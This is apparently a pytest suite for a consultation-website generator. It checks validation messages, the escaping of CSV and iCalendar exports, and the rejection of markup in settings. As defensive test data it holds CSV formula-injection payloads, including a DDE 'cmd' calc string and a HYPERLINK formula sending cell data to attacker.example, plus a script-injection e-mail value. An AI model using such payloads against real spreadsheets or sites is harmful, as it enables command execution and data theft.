"""Hostile input aimed at the logic rather than the parser: content that every file-level check accepts
but that loses text, goes round in circles, contradicts itself, or turns into something active in a
file the site publishes (a spreadsheet formula in a CSV cell, a broken iCalendar line, markup in a
setting).

Problems must come as one line each, naming file, line and field and the fix, all together, from the
build and from scripts/validate alike; published files are checked by reading them back with the
csv module and the icalendar library.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import ROOT, SITES, build
from icalendar import Calendar
from konsulta_calendar.events import ical_text
from konsulta_content.spreadsheets import FORMULA_TRIGGERS, csv_table
from pelican.settings import read_settings

LOGIC = SITES / "hostile" / "logic"
PROBLEMS = "tests/sites/hostile/logic/problems"
BLANK = "has no letters or digits, only spaces, punctuation or invisible characters"
COLUMNS = "(section, submitter, summary, decision, reason)"
TWO_OUTCOMES = (f"responds_to: 'rules' is answered by more than one 'en' outcome ({PROBLEMS}/en/rules-decision.md, "
                f"{PROBLEMS}/en/rules-outcome.md): a draft has one outcome in each language; merge them into one, "
                "or fix 'responds_to'")

EXPECTED = [
    f"{PROBLEMS}/en/b/same.md:3: type: translations of 'same' have different types (news, page): "
    "give every translation the same 'type'",
    f"{PROBLEMS}/en/b/same.md:6: slug: translations of 'same' have different slugs (same-a, same-b): "
    "translations share one slug; set the same 'slug' in each language or remove it",
    f"{PROBLEMS}/en/blank-title.md:2: title: {BLANK}: write the text in words",
    f"{PROBLEMS}/en/blank-title.md:5: summary: {BLANK} (U+200B): write the text in words",
    f"{PROBLEMS}/en/board.md:6: parent: the parents go round in a circle ('board' → 'council' → 'board'): "
    "a body cannot be part of itself; remove 'parent' from one of them or name another body",
    f"{PROBLEMS}/en/council.md:6: parent: the parents go round in a circle ('council' → 'board' → 'council'): "
    "a body cannot be part of itself; remove 'parent' from one of them or name another body",
    f"{PROBLEMS}/en/dots.md:2: title: {BLANK}: write the text in words",
    f"{PROBLEMS}/en/dots.md:5: summary: {BLANK}: write the text in words",
    f"{PROBLEMS}/en/dots.md:6: topics[1]: {BLANK} (U+2800): write the text in words",
    f"{PROBLEMS}/en/dots.md:9: attachments[0].title: {BLANK} (U+3164): write the text in words",
    f"{PROBLEMS}/en/new-policy.md:7: superseded_by: the replacements go round in a circle "
    "('new-policy' → 'old-policy' → 'new-policy'): a document cannot be replaced by one it replaces; "
    "fix 'superseded_by' in one of them",
    f"{PROBLEMS}/en/old-policy.md:7: superseded_by: the replacements go round in a circle "
    "('old-policy' → 'new-policy' → 'old-policy'): a document cannot be replaced by one it replaces; "
    "fix 'superseded_by' in one of them",
    f"{PROBLEMS}/en/rules-decision.md:4: date: 2026-12-15 is before the consultation on 'rules' closed "
    "(comments are accepted until the end of 2026-12-15): an outcome answers the comments, so date it "
    "2026-12-16 or later, or fix the draft's consultation dates",
    f"{PROBLEMS}/en/rules-decision.md:7: {TWO_OUTCOMES}",
    f"{PROBLEMS}/en/rules-decision.md:12: responses[0].reason: {BLANK}: write the text in words",
    f"{PROBLEMS}/en/rules-outcome-responses.csv:2: responses[0]: this row has 6 cells, but the first row names "
    f"5 columns {COLUMNS}, so ' and lowered it' has no column: put double quotes around the cell that contains "
    'a comma, e.g. "We agree, in part"',
    f"{PROBLEMS}/en/rules-outcome-responses.csv:3: responses[1]: this row has 4 cells, but the first row names "
    f"5 columns {COLUMNS}: add the missing cells; an empty cell is nothing between two commas",
    f"{PROBLEMS}/en/rules-outcome.md:4: date: 2026-10-20 is before the consultation on 'rules' opened "
    "(2026-11-02): an outcome answers the comments, so date it 2026-12-16 or later, or fix the draft's "
    "consultation dates",
    f"{PROBLEMS}/en/rules-outcome.md:7: {TWO_OUTCOMES}",
    f"{PROBLEMS}/en/selfish.md:6: parent: a document cannot refer to itself: name another document or remove 'parent'",
    f"{PROBLEMS}/en/wrong-types.md:6: body: 'rules-outcome' is an outcome, but body must name a body",
    f"{PROBLEMS}/en/wrong-types.md:7: outcome: 'council' is a body, but outcome must name an outcome",
]


def _pelican(content, output: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pelican", str(content), "-s", "pelicanconf.py", "-o", str(output), "--fatal", "errors"],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )


def _validate(content) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "scripts/validate", str(content)],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)


def _problem_lines(run: subprocess.CompletedProcess) -> list[str]:
    assert "Traceback" not in run.stderr, run.stderr[-3000:]
    lines = run.stderr.splitlines()
    start = next((i for i, line in enumerate(lines) if line.startswith("Konsulta found")), None)
    assert start is not None, f"no problem report\n--- stdout\n{run.stdout[-3000:]}\n--- stderr\n{run.stderr[-3000:]}"
    return lines[start + 1:]


def _write(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return root


# --- problems: reported by the build and by scripts/validate, the same lines, all together

@pytest.fixture(scope="module")
def problem_runs(tmp_path_factory):
    return {"build": _pelican(PROBLEMS, tmp_path_factory.mktemp("logic") / "output"),
            "validate": _validate(PROBLEMS)}


@pytest.mark.parametrize("command", ["build", "validate"])
def test_every_logic_problem_is_one_line_with_file_line_field_and_fix(problem_runs, command):
    run = problem_runs[command]
    assert run.returncode != 0
    assert _problem_lines(run) == EXPECTED


def test_same_named_files_in_one_language_are_not_translations(problem_runs):
    """en/x/twin.md and en/y/twin.md differ in slug and type, and are two documents: no problem. Of en/a/same.md,
    en/b/same.md and tr/same.md, only en/b/same.md has no Turkish file sharing its slug and type."""
    for run in problem_runs.values():
        reported = "\n".join(_problem_lines(run))
        assert "twin" not in reported
        assert "a/same.md" not in reported and "tr/same.md" not in reported


def _outcome_site(root: Path, files: dict[str, str]) -> Path:
    """A draft in English and Turkish whose consultation closed before the tests' now (2026-11-24)."""
    draft = """\
        ---
        title: Draft rules
        type: draft
        date: 2026-09-01
        summary: Rules that were open for comment.
        consultation:
          opens: 2026-09-01
          closes: 2026-10-01
        ---
        Text.
        """
    return _write(root / "content", {"en/rules.md": draft, "tr/rules.md": draft, **files})


def _outcome(title: str = "What we heard", responses: str = "[]") -> str:
    return f"""\
        ---
        title: {title}
        type: outcome
        date: 2026-11-01
        summary: The responses.
        responds_to: rules
        responses: {responses}
        ---
        Text.
        """


def test_two_outcomes_for_one_draft_in_one_language(tmp_path):
    content = _outcome_site(tmp_path, {"en/rules-outcome.md": _outcome(), "en/rules-report.md": _outcome()})
    run = _validate(content)
    assert run.returncode == 1
    lines = [line.split("/content/")[1] for line in _problem_lines(run)]
    assert [line.split(": ")[0] for line in lines] == ["en/rules-outcome.md:6", "en/rules-report.md:6"]
    assert all("responds_to: 'rules' is answered by more than one 'en' outcome" in line for line in lines)


def test_outcomes_in_two_languages_are_each_linked_from_their_own_draft_page(tmp_path):
    """Before: the draft pages took the first answering slug, so the Turkish page linked the English outcome
    although a Turkish one (with a slug of its own) answered the same draft."""
    content = _outcome_site(tmp_path, {"en/rules-outcome.md": _outcome("What we heard"),
                                       "tr/kurallar-sonucu.md": _outcome("Ne duyduk")})
    assert _validate(content).returncode == 0
    output = build(content, tmp_path / "output")
    for lang, outcome in (("en", "rules-outcome"), ("tr", "kurallar-sonucu")):
        page = BeautifulSoup((output / lang / "rules" / "index.html").read_text("utf-8"), "html.parser")
        links = {a["href"].rstrip("/").rsplit("/", 1)[-1] for a in page.select(".consultation a[href]")}
        assert outcome in links, (lang, links)


def test_a_longer_circle_names_each_member_once_and_not_what_leads_into_it(tmp_path):
    def body(slug, parent):
        return f"---\ntitle: Body {slug}\ntype: body\ndate: 2025-01-01\nsummary: S.\nparent: {parent}\n---\nText.\n"

    content = _write(tmp_path / "content", {"en/a.md": body("a", "b"), "en/b.md": body("b", "c"),
                                            "en/c.md": body("c", "a"), "en/d.md": body("d", "a")})
    run = _validate(content)
    lines = [line.split("/content/")[1] for line in _problem_lines(run)]
    assert lines == [
        f"en/{x}.md:6: parent: the parents go round in a circle ({chain}): a body cannot be part of itself; "
        "remove 'parent' from one of them or name another body"
        for x, chain in (("a", "'a' → 'b' → 'c' → 'a'"), ("b", "'b' → 'c' → 'a' → 'b'"), ("c", "'c' → 'a' → 'b' → 'c'"))]


def test_responses_file_with_a_control_character_or_a_repeated_column(tmp_path):
    content = _outcome_site(tmp_path, {
        "en/rules-outcome.md": _outcome(responses="rules-outcome.csv"),
        "en/rules-outcome.csv": "section,submitter,summary,decision,reason\nFees,citizen,Fine,accepted,Yes\n"
                                "Fees,ngo,Ring\x07ring,noted,No\n",
        "tr/rules-outcome.md": _outcome(responses="rules-outcome.csv"),
        "tr/rules-outcome.csv": "section,submitter,summary,decision,reason,reason\nFees,citizen,Fine,accepted,Yes,No\n",
    })
    run = _validate(content)
    assert run.returncode == 1
    assert [line.split("/content/")[1] for line in _problem_lines(run)] == [
        "en/rules-outcome.csv:3: cannot read the responses file: the file contains the control character U+0007: delete it (column 14)",
        "tr/rules-outcome.md:7: responses: cannot read the responses file: the first row names the column 'reason' "
        "more than once: keep one",
    ]


# --- published files: CSV cells never start a formula, iCalendar lines never break

@pytest.fixture(scope="module")
def published(tmp_path_factory) -> Path:
    return build(LOGIC / "published", tmp_path_factory.mktemp("published") / "output")


def _csv_rows(path: Path) -> list[dict]:
    data = path.read_bytes()
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_response_cells_that_start_like_a_formula_get_an_apostrophe(published):
    folder = published / "en" / "rules-outcome"
    assert _csv_rows(folder / "responses.csv") == [
        {"section": "'=Fees", "submitter": "citizen", "summary": "'=1+1", "decision": "accepted",
         "reason": "We agree, and lowered it", "response_id": ""},
        {"section": "Fees", "submitter": "business", "summary": "'@SUM(A1)", "decision": "rejected",
         "reason": "'-Deliveries block the streets.", "response_id": ""},
        {"section": "Scope", "submitter": "ngo", "summary": "'+cmd|' /C calc'!A0", "decision": "noted",
         "reason": "Plain text stays as it is.", "response_id": ""},
    ]
    # Programs read the JSON, which keeps the text exactly as written.
    responses = json.loads((folder / "responses.json").read_text("utf-8"))["responses"]
    assert [r["summary"] for r in responses] == ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0"]


def test_documents_csv_cells_that_start_like_a_formula_get_an_apostrophe(published):
    rows = {row["slug"]: row for row in _csv_rows(published / "data" / "documents.csv")}
    outcome, draft, tabbed = rows["rules-outcome"], rows["rules"], rows["tabbed"]
    assert outcome["title"] == "'=HYPERLINK(\"https://attacker.example/?\"&A2,\"Details\")"
    assert outcome["summary"] == "'-2+3 responses were counted twice"
    assert outcome["reference"] == "'@SUM(A1:A9)"
    assert outcome["topics"] == "'+Transport"
    assert outcome["responses_count"] == "3"  # a number the site counted: written as a number
    assert tabbed["title"] == "'\t=1+1 after a tab"
    assert tabbed["summary"] == "'\rA carriage return first"
    # Text that only contains such characters is left as written; quoting keeps its line breaks in the cell.
    assert draft["title"] == "Parking rules,\rwith a bare CR; and\na line feed"
    for row in rows.values():
        assert not any(value.startswith(FORMULA_TRIGGERS) for value in row.values()), row


def test_numbers_the_site_writes_stay_numbers_and_text_that_looks_like_one_does_not():
    """-5 from the site's own arithmetic is data, and no formula can hide in an int; "-5" typed by an editor is
    text, and a spreadsheet would compute "-5+A1" just as well."""
    rows = list(csv.reader(io.StringIO(csv_table(["count", "text"], [[-5, "-5"], [0.5, "=0.5"]]).decode(), newline="")))
    assert rows == [["count", "text"], ["-5", "'-5"], ["0.5", "'=0.5"]]


def _ical_lines(path: Path) -> list[bytes]:
    data = path.read_bytes()
    lines = data.split(b"\r\n")
    assert lines[-1] == b"", "the file ends with CRLF"
    for line in lines[:-1]:
        assert b"\r" not in line and b"\n" not in line, f"{path.name}: a bare line break in {line!r}"
    return lines[:-1]


@pytest.mark.parametrize("name", ["consultations.ics", "en/rules/consultation.ics"])
def test_calendar_text_with_line_breaks_stays_on_its_line(published, name):
    path = published / name
    lines = _ical_lines(path)
    calendar = Calendar.from_ical(path.read_bytes())
    events = calendar.walk("VEVENT")
    title = "Parking rules, with a bare CR; and a line feed"
    assert [str(event["SUMMARY"]) for event in events] == [f"Consultation opens: {title}", f"Consultation closes: {title}"]
    for event in events:
        assert str(event["DESCRIPTION"]).endswith("\n\nFirst line\nsecond line\nthird line\nfourth line")
    if name.endswith("consultation.ics"):
        # icalendar reads these two as unknown properties, so they are compared as written: escaped TEXT.
        escaped = b"Parking rules\\, with a bare CR\\; and a line feed"
        assert [line for line in lines if line.startswith((b"NAME:", b"X-WR-CALNAME:"))] == [
            b"NAME:" + escaped, b"X-WR-CALNAME:" + escaped]


@pytest.mark.parametrize("text, one_line, lines", [
    ("a\rb", "a b", "a\nb"),
    ("a\r\nb\n\nc", "a b c", "a\nb\n\nc"),
    ("a\vb\fc\x1cd\x85e\u2028f\u2029g", "a b c d e f g", "a\nb\nc\nd\ne\nf\ng"),
    ("bell\x07 and \x1b[31m escape\x7f", "bell and [31m escape", "bell and [31m escape"),
    ("  spaced\t out  ", "spaced out", "spaced out"),
])
def test_ical_text_leaves_no_line_break_or_control_character(text, one_line, lines):
    assert str(ical_text(text)) == one_line
    assert str(ical_text(text, multiline=True)) == lines
    assert b"\r" not in ical_text(text, multiline=True).to_ical() and b"\n" not in ical_text(text).to_ical()


# --- settings shown on pages are escaped

def test_comment_email_is_escaped_in_the_link_and_its_text(tmp_path):
    konsulta = dict(read_settings(str(ROOT / "pelicanconf.py"))["KONSULTA"])
    email = "o'brien+consult@example.org"  # valid; the apostrophe needs escaping in an attribute
    konsulta["comment_email"] = email
    output = build(SITES / "minimal", tmp_path / "output", KONSULTA=konsulta)
    page = BeautifulSoup((output / "en" / "parking-rules" / "index.html").read_text("utf-8"), "html.parser")
    links = page.select('a[href^="mailto:"]')
    assert links and all(link["href"] == f"mailto:{email}" and link.get_text() == email for link in links)


def test_a_comment_email_that_is_not_an_address_stops_the_build(tmp_path):
    konsulta = dict(read_settings(str(ROOT / "pelicanconf.py"))["KONSULTA"])
    konsulta["comment_email"] = 'x@example.org"><script>alert(1)</script>'
    with pytest.raises(SystemExit) as stopped:
        build(SITES / "minimal", tmp_path / "output", KONSULTA=konsulta)
    assert "KONSULTA['comment_email']: 'x@example.org\"><script>alert(1)</script>' is not an e-mail address" \
        in str(stopped.value)
    assert not (tmp_path / "output").exists()
